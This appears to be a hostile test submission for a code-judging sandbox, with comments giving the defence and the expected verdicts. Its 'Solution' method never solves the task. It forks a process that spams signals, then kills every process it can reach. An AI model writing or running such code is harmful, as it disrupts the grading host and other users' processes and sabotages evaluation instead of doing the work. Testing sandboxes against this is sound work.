// defence: uid per answer
// verdict: WrongAnswer|TimeLimit
// verdict on gVisor: RuntimeError
public static class Solution
{
    public static Dictionary<string, List<double>> Positions(List<string> words)
    {
        if (Libc.fork() == 0)
            while (true)
                Libc.kill(-1, 18);
        Libc.kill(-1, 9);
        for (var process = 2; process < 1000; process++)
            if (process != Libc.getpid())
                Libc.kill(process, 9);
        return new();
    }
}
